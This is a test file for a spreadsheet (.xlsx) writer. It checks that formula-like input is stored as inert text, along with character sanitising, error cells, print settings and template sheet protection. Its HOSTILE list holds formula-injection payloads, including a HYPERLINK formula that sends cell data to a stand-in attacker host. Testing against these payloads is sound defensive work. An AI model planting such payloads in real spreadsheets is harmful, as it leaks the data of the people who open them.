import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { openpyxl } from '../test/openpyxl';
import { getTemplate, TEMPLATES } from '../shared/templates';
import { buildTemplateWorkbook, type WorkbookModel } from '../shared/workbook';
import { EVERY_SHEET, readWorkbook } from './read';
import { writeWorkbook } from './write';

const HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

function model(values: (string | number | boolean)[]): WorkbookModel {
  return {
    title: 'Kiểm tra',
    metadata: [],
    sheets: [
      {
        name: 'Tổng hợp',
        cells: [
          ...values.map((value, i) => ({ row: i, col: 0, value, style: 'plain' as const })),
          { row: 0, col: 1, formula: 'SUM(C1:C2)', style: 'derived' as const, numberFormat: '#,##0' },
          { row: 1, col: 1, value: 'Ghi chú', comment: 'Giải trình của đơn vị' },
        ],
        merges: [],
        columnWidths: [30, 12],
        names: [],
        validations: [],
        frozen: { rows: 1, cols: 0 },
        print: { landscape: true, fitToWidth: true, titleRows: { first: 0, last: 0 } },
      },
    ],
  };
}

async function excelJs(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  return wb;
}

describe('writing .xlsx files', () => {
  it('writes text that looks like a formula as text: exceljs, openpyxl and our reader all see strings', async () => {
    const bytes = writeWorkbook(model(HOSTILE));
    const ws = (await excelJs(bytes)).getWorksheet('Tổng hợp')!;
    HOSTILE.forEach((text, i) => expect(ws.getCell(i + 1, 1).value, text).toBe(text));
    expect(ws.getCell('B1').value).toMatchObject({ formula: 'SUM(C1:C2)' });

    const seen = openpyxl<[string, string][]>(bytes, "ws = wb['Tổng hợp']\nprint(json.dumps([[c.data_type, c.value] for c in ws['A'][:6]]))");
    expect(seen).toEqual(HOSTILE.map((text) => ['s', text]));
    expect(openpyxl<string>(bytes, "print(json.dumps(wb['Tổng hợp']['B1'].value))")).toBe('=SUM(C1:C2)');

    expect(readWorkbook(bytes, EVERY_SHEET).sheets[0]!.values.map((r) => r[0])).toEqual(HOSTILE);
  });

  it('replaces characters no XML can hold, so the file stays well-formed for every reader', async () => {
    const bytes = writeWorkbook(model(['a\uFFFFb', 'c\u0001d', 'e\uD800f', 'xuống\ndòng']));
    expect(readWorkbook(bytes, EVERY_SHEET).sheets[0]!.values.map((r) => r[0])).toEqual(['a\uFFFDb', 'c\uFFFDd', 'e\uFFFDf', 'xuống\ndòng']);
    expect((await excelJs(bytes)).getWorksheet('Tổng hợp')!.getCell('A4').value).toBe('xuống\ndòng');
    expect(openpyxl<string>(bytes, "print(json.dumps(wb['Tổng hợp']['A1'].value))")).toBe('a\uFFFDb');
  });

  it('writes a number too large for any format as an error cell, never as a broken value', () => {
    const bytes = writeWorkbook(model([Number.POSITIVE_INFINITY, 1.5e300]));
    expect(readWorkbook(bytes, EVERY_SHEET).sheets[0]!.values.map((r) => r[0])).toEqual(['#NUM!', 1.5e300]);
  });

  it('carries notes, frozen headers, print titles and fit-to-width for third-party readers', async () => {
    const bytes = writeWorkbook(model(['x']));
    const facts = openpyxl<Record<string, unknown>>(
      bytes,
      "ws = wb['Tổng hợp']\nprint(json.dumps({'note': ws['B2'].comment.text, 'freeze': ws.freeze_panes, 'titles': ws.print_title_rows, 'fit': ws.sheet_properties.pageSetUpPr.fitToPage, 'orientation': ws.page_setup.orientation, 'paper': ws.page_setup.paperSize}))",
    );
    expect(facts).toEqual({ note: 'Giải trình của đơn vị', freeze: 'A2', titles: '$1:$1', fit: true, orientation: 'landscape', paper: 9 });
    const ws = (await excelJs(bytes)).getWorksheet('Tổng hợp')!;
    expect(ws.getCell('B2').note).toBe('Giải trình của đơn vị');
  });

  it('protects a template sheet so that only its yellow input cells take typing, with every number input validated (BM01 too)', () => {
    const bytes = writeWorkbook(buildTemplateWorkbook(getTemplate('BM01')!, { period: '2024', lang: 'vi' }));
    const facts = openpyxl<{ protected: boolean; formatCells: boolean; inputs: number; unlockedInputs: number; lockedOthers: number; validated: number; numberInputs: number }>(
      bytes,
      `ws = wb['BM01']
cells = [c for row in ws.iter_rows() for c in row if c.fill is not None and c.fill.fgColor is not None and c.fill.fgColor.rgb == 'FFFFF8D6']
others = [c for row in ws.iter_rows() for c in row if c.value is not None and c not in cells]
ranges = [r for dv in ws.data_validations.dataValidation for r in dv.sqref.ranges]
covered = set(cell for r in ranges for row in ws[r.coord] for cell in (row if isinstance(row, tuple) else (row,)))
numbers = [c for c in cells if c.number_format != '@' and ws.cell(row=6, column=c.column).value in ('TS', 'MS')]
print(json.dumps({'protected': ws.protection.sheet, 'formatCells': ws.protection.formatCells, 'inputs': len(cells), 'unlockedInputs': sum(1 for c in cells if not c.protection.locked), 'lockedOthers': sum(1 for c in others if c.protection.locked), 'validated': sum(1 for c in numbers if c in covered), 'numberInputs': len(numbers)}))`,
    );
    expect(facts.protected).toBe(true);
    // openpyxl reads the attribute as written: false means formatting is allowed.
    expect(facts.formatCells).toBe(false);
    expect(facts.inputs).toBeGreaterThan(50);
    expect(facts.unlockedInputs).toBe(facts.inputs);
    expect(facts.lockedOthers).toBeGreaterThan(50);
    expect(facts.numberInputs).toBeGreaterThan(20);
    expect(facts.validated).toBe(facts.numberInputs);
  });

  it('protects every template, lists open to inserted rows', () => {
    for (const template of TEMPLATES) {
      const sheet = buildTemplateWorkbook(template, { period: '2024' }).sheets.find((s) => s.name === template.id)!;
      expect(sheet.protect, template.id).toEqual({ insertRows: template.kind === 'list' });
      expect(sheet.validations.length, template.id).toBeGreaterThan(0);
    }
  });

  it('gives the same bytes for the same content and time', () => {
    const created = new Date('2026-11-29T08:00:00Z');
    expect(writeWorkbook(model(['a', 1]), { created })).toEqual(writeWorkbook(model(['a', 1]), { created }));
  });
});
